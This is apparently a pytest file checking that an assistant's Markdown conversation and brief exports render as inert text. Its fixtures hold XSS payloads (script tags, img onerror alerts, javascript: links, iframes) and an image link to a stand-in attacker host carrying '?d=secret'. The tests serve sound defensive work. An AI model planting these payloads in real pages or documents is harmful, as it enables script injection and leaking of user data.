"""Every Markdown export stays text once rendered by a CommonMark renderer (markdown-it-py, HTML enabled as
CommonMark specifies): hostile file names, titles, questions and quotes give no HTML, link or image."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from assistant.brief_export import to_markdown
from assistant.briefing import Brief, BriefBullet, BriefSection
from assistant.types import Answer, Citation, Passage
from ui.export import conversation_markdown

EVIL_NAME = "evil2`<img src=x onerror=alert(document.domain)>`_2024.md"
EVIL_TITLE = "Rapport <script>alert(1)</script> [clic](javascript:alert(2)) ![x](http://evil.example/t.png)"
EVIL_QUESTION = (
    "Que dit ![p](http://evil.example/?d=secret) et [x](javascript:alert(document.cookie)) "
    "ou <http://evil.example/auto> et <img src=x onerror=alert(3)> &#106;avascript ?\n"
    "[ref]: http://evil.example/ref\n[ref] `code` <!-- commentaire -->"
)
EVIL_QUOTE = "Texte [^1]: fausse note <iframe src=http://evil.example></iframe> ![i][ref] **gras**"
# What rendered CommonMark of these exports may contain: structure and emphasis, nothing that loads or links.
ALLOWED_TAGS = {"h1", "h2", "h3", "p", "em", "strong", "ul", "ol", "li", "blockquote", "br", "hr"}


def _passage(n: int) -> Passage:
    return Passage(text=EVIL_QUOTE, source=EVIL_NAME, title=EVIL_TITLE, page=n, section=None, score=1.0,
                   chunk_id=f"evil#{n}", publisher="Éditeur <b>gras</b> & [lien](http://x)", year=2024)


def _rendered(markdown: str) -> str:
    return MarkdownIt("commonmark").render(markdown)


def _assert_inert(html: str) -> None:
    tags = set(re.findall(r"<\s*/?\s*([a-zA-Z][\w-]*)", html))
    assert tags <= ALLOWED_TAGS, tags - ALLOWED_TAGS
    assert not re.search(r"<[a-zA-Z][^>]*\s(?:href|src)\s*=", html)


def _conversation() -> str:
    cite = Citation(1, _passage(1), EVIL_QUOTE)
    turns = [
        (EVIL_QUESTION, Answer(text=f"{EVIL_QUOTE} [1]\n\n<img src=x onerror=alert(4)>", citations=[cite],
                               warnings=[EVIL_TITLE])),
        (EVIL_QUESTION, Answer(text="Rien trouvé.", abstained=True, leads=[_passage(2)])),
    ]
    return conversation_markdown(turns)


def _brief(footnotes: bool) -> str:
    cite = Citation(1, _passage(3), EVIL_QUOTE)
    bullet = BriefBullet(EVIL_QUOTE, [cite], figure="<b>42</b> [x](javascript:y)", date="2024")
    brief = Brief(EVIL_QUESTION, f"Note : {EVIL_TITLE}", f"Sur « {EVIL_QUESTION} ».",
                  [BriefSection("s", EVIL_TITLE, [bullet])], warnings=[EVIL_TITLE])
    return to_markdown(brief, footnotes=footnotes)


@pytest.mark.parametrize("export", ["conversation", "brief", "brief-web"])
def test_every_export_renders_as_text_only(export: str):
    markdown = {"conversation": _conversation, "brief": lambda: _brief(True),
                "brief-web": lambda: _brief(False)}[export]()
    html = _rendered(markdown)
    _assert_inert(html)
    assert "<a " not in html and "<img" not in html and "<script" not in html and "<iframe" not in html
    # The hostile text is still there, shown literally.
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "[clic](javascript:alert(2))" in html


def test_the_conversation_shows_the_file_name_and_the_question_literally():
    html = _rendered(_conversation())
    assert "evil2`&lt;img src=x onerror=alert(document.domain)&gt;`_2024.md" in html
    assert "![p](http://evil.example/?d=secret)" in html and "[x](javascript:alert(document.cookie))" in html
    assert "&amp;#106;avascript" in html and "[ref]: http://evil.example/ref" in html


def test_the_checker_catches_an_unescaped_export():
    """Control: the raw strings, unescaped, do render as live HTML, links and images."""
    html = _rendered(f"{EVIL_QUESTION}\n\n{EVIL_NAME}")
    with pytest.raises(AssertionError):
        _assert_inert(html)
    assert '<img src="http://evil.example/?d=secret"' in html and '<a href="http://evil.example/auto"' in html
